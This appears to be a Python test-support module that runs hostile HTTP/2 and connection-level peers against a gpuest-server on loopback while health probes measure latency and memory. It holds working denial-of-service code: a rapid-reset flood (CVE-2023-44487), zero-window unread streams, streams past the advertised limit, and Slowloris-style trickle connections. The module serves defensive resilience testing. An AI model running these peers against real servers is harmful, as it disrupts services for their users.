"""Hostile HTTP/2 and connection-level peers for the transport rows of the hostile suite
(tests/hostile/test_transport.py) and their benchmark (bench/transport_abuse.py).

Each peer speaks raw HTTP/2 with python3-h2 (Debian's package) to a gpuest-server's gRPC
port, the way a misbehaving client in the cluster could, and runs until `stop` is set:

- rapid_reset: HEADERS + DATA (a valid Estimate) + RST_STREAM, as fast as one process
  sends them (the CVE-2023-44487 pattern);
- unread_streams: streams whose answers are never read (the peer advertises a zero
  window and never sends WINDOW_UPDATE);
- trickle_connections: connections to an HTTP port that each send a request line and
  then a byte now and then, reconnecting when closed.

Probes measure what a scheduler would see meanwhile: gRPC Health/Check and GET /healthz,
each on a fresh connection. `resident_bytes` reads a process's RSS from /proc.
"""
from __future__ import annotations

import os
import socket
import struct
import sys
import threading
import time
from dataclasses import dataclass, field
from typing import List, Optional

# The Python tests' server process (python/tests/server_process.py), one way to start
# and stop a server for every Python test.
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..",
                                "python", "tests"))
from server_process import ServerProcess  # noqa: E402

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings

ESTIMATE_PATH = "/gpuest.v1.Estimator/Estimate"


def grpc_frame(message: bytes) -> bytes:
    """A gRPC length-prefixed message, uncompressed."""
    return struct.pack(">BI", 0, len(message)) + message


def resident_bytes(pid: int) -> int:
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) * 1024
    raise RuntimeError(f"no VmRSS for {pid}")


MAX_ERRORS = 20  # a peer that reconnects in a loop keeps its first errors only


@dataclass
class PeerResult:
    """What one peer did and what the server said back."""
    streams: int = 0
    connections: int = 0
    goaways: List[str] = field(default_factory=list)  # error codes of GOAWAYs received
    closed_by_server: int = 0
    refused_streams: int = 0  # RST_STREAM from the server (REFUSED_STREAM and the like)
    max_streams_advertised: Optional[int] = None
    errors: List[str] = field(default_factory=list)


def _request_headers(port: int, path: str = ESTIMATE_PATH):
    return [(":method", "POST"), (":scheme", "http"), (":path", path),
            (":authority", f"127.0.0.1:{port}"), ("content-type", "application/grpc"),
            ("te", "trailers")]


def _open_h2(port: int, window: Optional[int] = None):
    sock = socket.create_connection(("127.0.0.1", port), timeout=5)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True,
                                                                header_encoding="utf-8"))
    conn.initiate_connection()
    if window is not None:
        conn.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: window})
    sock.sendall(conn.data_to_send())
    return sock, conn


def _absorb(conn, data: bytes, result: PeerResult) -> bool:
    """Feeds the server's bytes to h2; False once the server said GOAWAY."""
    try:
        events = conn.receive_data(data)
    except h2.exceptions.ProtocolError as e:
        result.errors.append(f"protocol error: {e}")
        return False
    alive = True
    for event in events:
        if isinstance(event, h2.events.RemoteSettingsChanged):
            changed = event.changed_settings.get(
                h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS)
            if changed is not None:
                result.max_streams_advertised = changed.new_value
        elif isinstance(event, h2.events.ConnectionTerminated):
            result.goaways.append(str(event.error_code))
            alive = False
        elif isinstance(event, h2.events.StreamReset) and event.remote_reset:
            result.refused_streams += 1
    return alive


def rapid_reset(port: int, message: bytes, stop: threading.Event, result: PeerResult,
                batch: int = 50) -> None:
    """HEADERS + DATA + RST_STREAM in a loop, on one connection at a time; a new one when
    the server closes it (as an attacker would)."""
    body = grpc_frame(message)
    while not stop.is_set():
        try:
            sock, conn = _open_h2(port)
        except OSError as e:
            result.errors.append(f"connect: {e}")
            stop.wait(0.05)
            continue
        result.connections += 1
        sock.setblocking(False)
        alive = True
        try:
            while alive and not stop.is_set():
                for _ in range(batch):
                    # The connection's send window (the server refunds it as it reads):
                    # wait for its WINDOW_UPDATE rather than break the protocol.
                    while (alive and not stop.is_set() and
                           conn.outbound_flow_control_window < len(body)):
                        alive = _flush(sock, conn, result) and _read_available(
                            sock, conn, result, timeout=1)
                    if not alive or stop.is_set():
                        break
                    sid = conn.get_next_available_stream_id()
                    try:
                        conn.send_headers(sid, _request_headers(port))
                        conn.send_data(sid, body, end_stream=True)
                        conn.reset_stream(sid, error_code=8)  # CANCEL
                    except (h2.exceptions.ProtocolError, h2.exceptions.FlowControlError,
                            h2.exceptions.StreamClosedError) as e:
                        result.errors.append(str(e))
                        alive = False
                        break
                    result.streams += 1
                out = conn.data_to_send()
                view = memoryview(out)
                while view and not stop.is_set():
                    try:
                        sent = sock.send(view)
                        view = view[sent:]
                    except BlockingIOError:
                        _read_available(sock, conn, result, timeout=0.01)
                    except OSError:
                        alive = False
                        break
                if alive:
                    alive = _read_available(sock, conn, result, timeout=0)
        finally:
            if not alive:
                result.closed_by_server += 1
            sock.close()


def _hold(sock, conn, result: PeerResult, keep_going) -> None:
    """Reads the server's frames while keep_going(), or until it closes the connection."""
    while keep_going():
        if not _read_available(sock, conn, result, timeout=0.2):
            result.closed_by_server += 1
            return


def _flush(sock, conn, result: PeerResult) -> bool:
    """Sends what h2 has queued, blocking; False when the server closed."""
    out = conn.data_to_send()
    if not out:
        return True
    sock.settimeout(2)  # A server that stops reading must not hold the peer forever.
    try:
        sock.sendall(out)
        return True
    except OSError:
        return False
    finally:
        sock.setblocking(False)


def _read_available(sock, conn, result: PeerResult, timeout: float) -> bool:
    import select
    while True:
        readable, _, _ = select.select([sock], [], [], timeout)
        if not readable:
            return True
        try:
            data = sock.recv(1 << 16)
        except BlockingIOError:
            return True
        except OSError:
            return False
        if not data:
            return False
        if not _absorb(conn, data, result):
            return False
        out = conn.data_to_send()
        if out:
            try:
                sock.sendall(out)
            except OSError:
                return False
        timeout = 0


def unread_streams(port: int, message: bytes, streams: int, stop: threading.Event,
                   result: PeerResult) -> None:
    """Opens up to `streams` Estimate streams on one connection with a zero receive
    window, and never reads an answer's body; holds the connection until stop."""
    body = grpc_frame(message)
    try:
        sock, conn = _open_h2(port, window=0)
    except OSError as e:
        result.errors.append(f"connect: {e}")
        return
    result.connections += 1
    sock.settimeout(2)
    try:
        for _ in range(streams):
            if stop.is_set():
                break
            alive = True
            while (alive and not stop.is_set() and
                   conn.outbound_flow_control_window < len(body)):
                sock.sendall(conn.data_to_send())
                alive = _read_available(sock, conn, result, timeout=1)
            if not alive:
                result.closed_by_server += 1
                return
            try:
                sid = conn.get_next_available_stream_id()
                conn.send_headers(sid, _request_headers(port))
                conn.send_data(sid, body, end_stream=True)
            except h2.exceptions.TooManyStreamsError:
                # The server's MAX_CONCURRENT_STREAMS: what a conforming client must
                # respect. A hostile one would go on; h2 will not let it, and the server
                # must refuse such streams itself (tested in test_transport.py).
                result.errors.append("too many streams (server's limit)")
                break
            result.streams += 1
            if result.streams % 100 == 0:
                sock.sendall(conn.data_to_send())
                # Read the server's frames (SETTINGS, headers) but never grant window.
                _read_available(sock, conn, result, timeout=0)
        sock.sendall(conn.data_to_send())
        _hold(sock, conn, result, lambda: not stop.is_set())
    except OSError as e:
        result.errors.append(str(e))
    finally:
        sock.close()


def streams_past_the_limit(port: int, message: bytes, extra: int) -> PeerResult:
    """Ignores the advertised MAX_CONCURRENT_STREAMS: opens it + `extra` streams with a
    zero window, by writing HEADERS frames that h2 would refuse to make. The server must
    reset (REFUSED_STREAM) or close, not hold them."""
    result = PeerResult()
    sock, conn = _open_h2(port, window=0)
    result.connections += 1
    sock.settimeout(2)
    _read_available(sock, conn, result, timeout=0.5)
    limit = result.max_streams_advertised or 0
    # Lift h2's own guard: the peer under test is the one that breaks the rule.
    conn.remote_settings[h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS] = 1 << 30
    conn.remote_settings.acknowledge()
    body = grpc_frame(message)
    for _ in range(limit + extra):
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, _request_headers(port))
        conn.send_data(sid, body, end_stream=True)
        result.streams += 1
    try:
        sock.sendall(conn.data_to_send())
        deadline = time.monotonic() + 3
        _hold(sock, conn, result, lambda: time.monotonic() < deadline)
    except OSError as e:
        result.errors.append(str(e))
    finally:
        sock.close()
    return result


def trickle_connections(port: int, count: int, stop: threading.Event,
                        result: PeerResult, every: float = 0.5) -> None:
    """Keeps `count` connections to an HTTP port each sending a request line and then one
    header byte every `every` seconds; reconnects when the server closes one."""
    import resource
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(hard, count + 256)), hard))
    socks: List[socket.socket] = []

    def connect():
        try:
            s = socket.create_connection(("127.0.0.1", port), timeout=1)
            s.sendall(b"POST /filter HTTP/1.1\r\nHost: x\r\n")
            result.connections += 1
            return s
        except OSError:
            return None

    while not stop.is_set():
        while len(socks) < count and not stop.is_set():
            s = connect()
            if s is None:
                break
            socks.append(s)
        for s in list(socks):
            try:
                s.sendall(b"X")
            except OSError:
                result.closed_by_server += 1
                socks.remove(s)
                s.close()
        stop.wait(every)
    for s in socks:
        s.close()


class Probes:
    """gRPC Health/Check and GET /healthz on each HTTP port, every `every` seconds, each
    on a new connection (as a kubelet probe or the scheduler's next call would be)."""

    # Probes come from another loopback address than the peers (127.0.0.1): to the
    # server they are another client, as the scheduler and the kubelet are.
    SOURCE = "127.0.0.2"

    def __init__(self, grpc_port: int, http_ports: List[int], every: float = 0.2):
        self.grpc_port = grpc_port
        self.http_ports = http_ports
        self.every = every
        self.latencies = {"grpc": [], **{f"http:{p}": [] for p in http_ports}}
        self.failures = {k: 0 for k in self.latencies}
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def start(self):
        self._thread.start()
        return self

    def stop(self):
        self._stop.set()
        self._thread.join()

    def _run(self):
        while not self._stop.is_set():
            self._one("grpc", lambda: self._grpc_health())
            for p in self.http_ports:
                self._one(f"http:{p}", lambda p=p: self._healthz(p))
            self._stop.wait(self.every)

    def _one(self, key, probe):
        start = time.monotonic()
        try:
            ok = probe()
        except Exception:  # noqa: BLE001 - any failure is a failed probe
            ok = False
        took = time.monotonic() - start
        if ok:
            self.latencies[key].append(took)
        else:
            self.failures[key] += 1

    def _grpc_health(self) -> bool:
        # grpc.health.v1.Health/Check on a new connection, as a kubelet's gRPC probe
        # makes one; raw HTTP/2 so that the probe's own cost (grpcio's channel set-up is
        # ~0.1 s) is not what it measures. HealthCheckRequest{} is empty; SERVING is
        # field 1 = 1 (08 01).
        sock = socket.create_connection(("127.0.0.1", self.grpc_port), timeout=2,
                                        source_address=(self.SOURCE, 0))
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        sock.settimeout(2)
        try:
            conn = h2.connection.H2Connection(h2.config.H2Configuration(
                client_side=True, header_encoding="utf-8"))
            conn.initiate_connection()
            conn.send_headers(1, _request_headers(self.grpc_port,
                                                  "/grpc.health.v1.Health/Check"))
            conn.send_data(1, grpc_frame(b""), end_stream=True)
            sock.sendall(conn.data_to_send())
            body, status = b"", None
            while status is None:
                data = sock.recv(65536)
                if not data:
                    return False
                for event in conn.receive_data(data):
                    if isinstance(event, h2.events.DataReceived):
                        body += event.data
                    elif isinstance(event, h2.events.TrailersReceived):
                        status = dict(event.headers).get("grpc-status")
                    elif isinstance(event, h2.events.ResponseReceived):
                        status = dict(event.headers).get("grpc-status")  # trailers-only
                out = conn.data_to_send()
                if out:
                    sock.sendall(out)
            return status == "0" and body[5:] == b"\x08\x01"
        finally:
            sock.close()

    def _healthz(self, port: int) -> bool:
        s = socket.create_connection(("127.0.0.1", port), timeout=2,
                                     source_address=(self.SOURCE, 0))
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        s.settimeout(2)
        try:
            s.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
            data = b""
            while b"\r\n" not in data:
                chunk = s.recv(4096)
                if not chunk:
                    break
                data += chunk
            return data.startswith(b"HTTP/1.1 200")
        finally:
            s.close()

    def p99(self, key: str) -> float:
        values = sorted(self.latencies[key])
        if not values:
            return float("inf")
        return values[min(len(values) - 1, int(0.99 * len(values)))]


def _peer_main(target, args, seconds: float, nice: int, queue) -> None:
    """One peer process: target(*args, stop, result) for `seconds`, its result put on
    queue."""
    if nice:
        os.nice(nice)
    stop = threading.Event()
    result = PeerResult()
    timer = threading.Timer(seconds, stop.set)
    timer.start()
    try:
        target(*args, stop, result)
    except Exception as e:  # noqa: BLE001 - reported, not raised in a child
        result.errors.append(f"{type(e).__name__}: {e}")
    del result.errors[MAX_ERRORS:]
    queue.put(result)


def run_in_processes(target, args_list, seconds: float, nice: int = 0) -> List[PeerResult]:
    """Runs target(*args, stop, result) in one process per args (so that the peers do
    not share the probes' interpreter), for `seconds`; returns each one's result.

    nice: the peers' niceness. The benchmark runs them at 10: a hostile client sits on
    another machine, and here it shares the server's few cores with the probes; at
    equal priority 4 busy peers on 2 cores delay the probe *client* (its connect, its
    interpreter) by tens of ms that the server never saw. Niced, the cores the peers do
    not need go to the server and the probes first, which is what separate machines
    give; the peers still send as fast as the cores allow (bench/transport_abuse.py
    prints their rate). The tests keep 0: beside other tests on a loaded machine,
    niced peers would be starved of the cores and send too little to test anything.

    The peers are spawned, not forked: the caller runs threads (the probes, gRPC's
    own), and a fork taken while one of them held a lock leaves the child waiting on
    it for ever; that hung one peer in two full-suite runs ("did not report in time").
    target must be a module-level function (it is pickled by name)."""
    import multiprocessing
    ctx = multiprocessing.get_context("spawn")
    queue = ctx.Queue()
    procs = [ctx.Process(target=_peer_main, args=(target, a, seconds, nice, queue),
                         daemon=True) for a in args_list]
    for p in procs:
        p.start()
    results = []
    deadline = time.monotonic() + seconds + 60
    import queue as queue_module
    for _ in procs:
        try:
            results.append(queue.get(timeout=max(0.1, deadline - time.monotonic())))
        except queue_module.Empty:
            # A peer stuck past its time says so rather than hanging its caller.
            results.append(PeerResult(errors=["the peer did not report in time"]))
    for p in procs:
        p.join(timeout=10)
        if p.is_alive():
            p.kill()
    return results


class ServerUnderTest(ServerProcess):
    """gpuest-server as the deployment starts it: gRPC, the extender's HTTP port and
    /metrics, on loopback ports it picks (extra flags appended); the Python tests'
    ServerProcess, with its RSS and every HTTP port to probe."""

    def __init__(self, server: str, models: str, extra=()):
        super().__init__(metrics=True, extra=["--extender-listen=127.0.0.1:0", *extra],
                         server=server, models=models)
        self.http_ports = [p for p in (self.metrics_port, self.extender_port) if p]

    def rss(self) -> int:
        return resident_bytes(self.proc.pid)


def estimate_request_bytes(repo: str, example: str = "cnn.json") -> bytes:
    """examples/<example> as a serialized EstimateRequest (the build's gpuest.v1)."""
    import json
    import sys
    sys.path[:0] = [os.path.join(repo, "build", "python"), os.path.join(repo, "python")]
    from google.protobuf import json_format
    from gpuest.v1 import estimate_pb2
    request = estimate_pb2.EstimateRequest()
    with open(os.path.join(repo, "examples", example)) as f:
        json_format.ParseDict(json.load(f), request.model)
    return request.SerializeToString()


def run_measured(server: "ServerUnderTest", target, args_list, seconds: float,
                 nice: int = 0):
    """Runs a peer row (run_in_processes) while probing health on every port and sampling
    the server's RSS every 0.1 s: (each peer's result, the RSS peak, the probes)."""
    probes = Probes(server.grpc_port, server.http_ports).start()
    peak = [server.rss()]
    done = threading.Event()

    def sample():
        while not done.is_set():
            peak[0] = max(peak[0], server.rss())
            done.wait(0.1)

    sampler = threading.Thread(target=sample, daemon=True)
    sampler.start()
    try:
        results = run_in_processes(target, args_list, seconds, nice)
    finally:
        done.set()
        sampler.join()
        probes.stop()
    return results, peak[0], probes
